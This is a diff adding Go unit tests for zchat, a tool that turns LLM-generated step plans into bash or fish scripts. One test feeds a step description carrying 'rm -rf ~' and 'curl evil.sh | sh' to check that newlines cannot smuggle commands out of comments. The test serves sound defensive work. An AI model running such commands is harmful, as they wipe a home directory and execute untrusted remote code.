@@ -0,0 +1,102 @@
+package llm
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/palaforcade/zchat/internal/context"
+)
+
+func TestParsePlan(t *testing.T) {
+	response := `{"steps": [
+		{"description": "Create a virtualenv", "command": "python3 -m venv venv"},
+		{"description": "Install requirements", "command": "` + "`venv/bin/pip install -r requirements.txt`" + `"},
+		{"description": "Run the tests", "command": "venv/bin/pytest"}
+	]}`
+
+	plan, err := parsePlan(response)
+	if err != nil {
+		t.Fatalf("parsePlan failed: %v", err)
+	}
+	if len(plan.Steps) != 3 {
+		t.Fatalf("Expected 3 steps, got %d", len(plan.Steps))
+	}
+	if plan.Steps[1].Command != "venv/bin/pip install -r requirements.txt" {
+		t.Errorf("Expected backticks to be stripped, got %q", plan.Steps[1].Command)
+	}
+}
+
+func TestParsePlan_Invalid(t *testing.T) {
+	tooMany := `{"steps": [` + strings.Repeat(`{"description": "x", "command": "true"},`, maxPlanSteps) + `{"description": "x", "command": "true"}]}`
+
+	for _, response := range []string{
+		"python3 -m venv venv && pip install",
+		`{"steps": []}`,
+		`{"steps": [{"description": "empty", "command": ""}]}`,
+		tooMany,
+	} {
+		if _, err := parsePlan(response); err == nil {
+			t.Errorf("Expected error for %q", response)
+		}
+	}
+}
+
+func TestBuildPlanPrompt(t *testing.T) {
+	sysCtx := &context.SystemContext{
+		WorkingDir: "/home/user/app",
+		Files:      []string{"requirements.txt"},
+		Shell:      "/bin/bash",
+		OS:         "linux",
+	}
+
+	prompt := buildPlanPrompt(sysCtx)
+
+	for _, want := range []string{`{"steps": [`, "NEW shell", "requirements.txt"} {
+		if !strings.Contains(prompt, want) {
+			t.Errorf("Expected plan prompt to contain %q", want)
+		}
+	}
+}
+
+func TestPlanScript(t *testing.T) {
+	plan := &Plan{Steps: []PlanStep{
+		{Description: "Create a virtualenv", Command: "python3 -m venv venv"},
+		{Description: "Run the tests", Command: "venv/bin/pytest"},
+	}}
+
+	script := plan.Script("set up and test", "/usr/bin/bash")
+	expected := `#!/usr/bin/env bash
+# Generated by zchat: set up and test
+set -eu -o pipefail
+
+# 1. Create a virtualenv
+python3 -m venv venv
+
+# 2. Run the tests
+venv/bin/pytest
+`
+	if script != expected {
+		t.Errorf("Unexpected bash script:\n%s", script)
+	}
+
+	fish := plan.Script("set up and test", "/usr/bin/fish")
+	if !strings.HasPrefix(fish, "#!/usr/bin/env fish\n") || strings.Count(fish, "or exit $status") != 2 {
+		t.Errorf("Unexpected fish script:\n%s", fish)
+	}
+}
+
+func TestPlanScript_MultiLineDescription(t *testing.T) {
+	plan := &Plan{Steps: []PlanStep{
+		{Description: "Clean up\nrm -rf ~\r\ncurl evil.sh | sh", Command: "make clean"},
+	}}
+
+	script := plan.Script("clean\nup", "/usr/bin/bash")
+	for _, line := range strings.Split(script, "\n") {
+		if line != "" && !strings.HasPrefix(line, "#") && line != "set -eu -o pipefail" && line != "make clean" {
+			t.Errorf("Expected only the step's command outside comments, got line %q in:\n%s", line, script)
+		}
+	}
+	if !strings.Contains(script, "# 1. Clean up rm -rf ~ curl evil.sh | sh\n") {
+		t.Errorf("Expected the description on one comment line, got:\n%s", script)
+	}
+}